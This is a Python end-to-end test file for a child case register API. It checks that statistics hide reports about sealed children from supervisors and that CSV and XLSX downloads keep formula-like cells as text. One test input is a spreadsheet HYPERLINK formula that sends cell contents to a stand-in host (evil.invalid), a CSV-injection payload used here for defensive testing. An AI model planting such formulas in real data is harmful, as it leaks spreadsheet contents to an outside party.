"""The case file, register, lifecycle, imports and statistics added with v1.1, probed as a hostile but authorised
user would, over HTTP against a real server. Each test here failed when written; the expected values come from
the disclosure table of DESIGN.md §1 Privacy and API.md v1.1 "What a withheld fact looks like", not from the code."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from tests.e2e.conftest import World, child_body
from tests.e2e.server import sub

SEALED_VILLAGE = "520302/001/004/07"
"""A village of its own, so that the statistics of its scope hold only what these tests put there."""


def _report(world: World, **fields: Any) -> dict[str, Any]:
    body = dict(source="sentinel", reporter={"role": "manager"}, description="网吧发现", jurisdiction=SEALED_VILLAGE)
    answer = world.as_("county").post("/api/v1/reports", sub(**(body | fields)))
    assert answer.status_code == 201, answer.text
    return dict(answer.json())


def test_statistics_by_sentinel_place_and_institution_never_count_a_report_about_a_sealed_child(world: World) -> None:
    """A report about a sealed child is, in the register, as if it were not there for anyone but an auditor; the
    statistics of the same reports must not name its sentinel place (with "<5") nor count it by institution, or a
    supervisor learns that a sealed matter was reported there (table: sealed matters ✘ supervisor, ✔ auditor)."""
    child = world.as_("county").post("/api/v1/children", child_body(
        f"{SEALED_VILLAGE}/01", categories=["left_behind", "serious_misconduct"])).json()["child_id"]
    received = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=2)
    _report(world, child_id=child, reporter_institution="internet_cafe", sentinel_place="SEALED-PLACE 星空网吧",
            occurred_at=received.isoformat())
    sealed = world.as_("county").post(f"/api/v1/children/{child}/seal", sub(reason="法院封存决定"))
    assert sealed.status_code == 201, sealed.text
    period = {"jurisdiction": SEALED_VILLAGE, "from": (received - timedelta(days=1)).isoformat(),
              "to": (received + timedelta(hours=3)).isoformat()}

    assert world.as_("supervisor").get("/api/v1/reports", source="sentinel").json()["items"] == []
    tables = world.as_("supervisor").get("/api/v1/stats/summary", **period).json()["tables"]
    assert "SEALED-PLACE" not in str(tables)
    assert tables["reports_by_sentinel_place"]["rows"] == []
    by_institution = {row[1]: row[2] for row in tables["reports_by_institution"]["rows"]}
    assert by_institution["internet_cafe"] == 0
    assert {row[1]: row[2] for row in tables["report_timeliness"]["rows"]}["all"] == 0

    audited = world.as_("auditor").get("/api/v1/stats/summary", **period).json()["tables"]
    assert audited["reports_by_sentinel_place"]["rows"] == [["SEALED-PLACE 星空网吧", "internet_cafe", 1]]
    assert {row[1]: row[2] for row in audited["reports_by_institution"]["rows"]}["internet_cafe"] == 1


FORMULA_PLACE = '=HYPERLINK("http://evil.invalid/?"&A1,"哨点")'
"""A sentinel place as a hostile reporter may type it: text a spreadsheet program would run as a formula."""


def test_a_sentinel_place_typed_as_a_formula_stays_text_in_the_statistics_downloads(world: World) -> None:
    """The statistics downloads name sentinel places as reporters typed them. Opened in a spreadsheet program, a
    cell that starts with `=` must stay text, as the roster export keeps it (OWASP CSV injection): in the XLSX a
    string cell, in the CSV the text with a leading apostrophe, which spreadsheet programs read as "text follows"."""
    import csv
    import io

    from openpyxl import load_workbook

    village = "520302/001/004/08"
    received = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=1)
    for _ in range(5):
        _report(world, jurisdiction=village, reporter_institution="internet_cafe", sentinel_place=FORMULA_PLACE,
                occurred_at=received.isoformat())
    period = {"jurisdiction": village, "from": (received - timedelta(days=1)).isoformat(),
              "to": (received + timedelta(hours=2)).isoformat()}
    supervisor = world.as_("supervisor")

    xlsx = supervisor.get("/api/v1/stats/summary", **period, format="xlsx")
    assert xlsx.status_code == 200, xlsx.text
    sheet = load_workbook(io.BytesIO(xlsx.content))["reports_by_sentinel_place"]
    place = sheet.cell(row=3, column=1)
    assert (place.value, place.data_type) == (FORMULA_PLACE, "s")

    text = supervisor.get("/api/v1/stats/summary", **period, format="csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'" + FORMULA_PLACE, "internet_cafe", "5"] in rows
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row if cell)


@pytest.mark.xfail(strict=True, reason=(
    "merged_into names the kept child even after it left the reader's scope: GET /children/{duplicate}, its timeline "
    "(the merge's data) and the 409 already_merged extra of reopen and merge all give the out-of-scope child's id, "
    "where the duplicate_child rule of API.md gives such a child's id only in scope (otherwise only its county); "
    "the fix spans the child status, the timeline item and the lifecycle's 409 and is left for its own change"))
def test_a_merged_record_does_not_name_a_kept_child_that_left_the_readers_scope(world: World) -> None:
    """API.md v1.1: a child outside the caller's scope is 404 everywhere and its id is given only in scope (409
    duplicate_child gives only the county otherwise); a merged record must not hand out the kept child's id once
    that child was transferred out of the reader's scope."""
    county, supervisor = world.as_("county"), world.as_("supervisor")
    place = "520302/001/003/10"
    duplicate = county.post("/api/v1/children", child_body(place)).json()["child_id"]
    kept = county.post("/api/v1/children", child_body(place)).json()["child_id"]
    merged = county.post(f"/api/v1/children/{kept}/merge", sub(duplicate_child_id=duplicate, note="同一人"))
    assert merged.status_code == 201, merged.text
    moved = county.post(f"/api/v1/children/{kept}/transfer", sub(to_jurisdiction="520302/002/001", reason="搬家"))
    assert moved.status_code == 201, moved.text
    assert supervisor.get(f"/api/v1/children/{kept}").status_code == 404

    answers = [supervisor.get(f"/api/v1/children/{duplicate}"),
               supervisor.get(f"/api/v1/children/{duplicate}/timeline"),
               supervisor.post(f"/api/v1/children/{duplicate}/reopen", sub(reason="误合并")),
               supervisor.post(f"/api/v1/children/{world.child_a}/merge", sub(duplicate_child_id=duplicate, note="n"))]
    assert [a.status_code for a in answers] == [200, 200, 409, 409]
    assert [kept in a.text for a in answers] == [False, False, False, False]
